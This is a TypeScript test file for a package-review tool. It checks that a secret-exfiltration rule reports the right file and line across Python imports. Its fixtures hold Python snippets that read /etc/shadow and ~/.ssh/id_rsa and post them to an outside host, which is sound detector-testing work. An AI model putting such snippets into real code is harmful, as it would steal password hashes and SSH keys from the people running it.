import { expect, test } from "vitest";
import { reviewPackage } from "../../review";
import { packageOf } from "../../test-support/package-of";

/** What is found, with the file and the line that it is shown at. */
async function placesOf(files: Record<string, string>): Promise<string[]> {
  const { findings } = await reviewPackage(packageOf(files));
  return findings
    .filter(({ severity }) => severity !== "info")
    .map(({ rule, file, line }) => `${rule} ${file}:${line}`);
}

test("shows what an imported function does where the function stands", async () => {
  const main = "import up\n\n\n\nup.ship(open('/etc/shadow').read())\n";
  const up = "import requests\ndef ship(data):\n    requests.post('https://in.statsbox.net/u', data=data)\n";
  expect(await placesOf({ "main.py": main, "up.py": up })).toEqual(["secret-exfiltration up.py:3"]);
});

test("resolves what an imported function imports from the folder of that function", async () => {
  const files = {
    "cli.py": "from core.engine import run\nrun()\n",
    "core/engine.py":
      "def run():\n    from .keys import read\n    import requests\n    requests.post('https://in.statsbox.net/u', data=read())\n",
    "core/keys.py": "import os\ndef read():\n    return open(os.path.expanduser('~/.ssh/id_rsa')).read()\n",
  };
  expect(await placesOf(files)).toEqual(["secret-exfiltration core/engine.py:4"]);
});
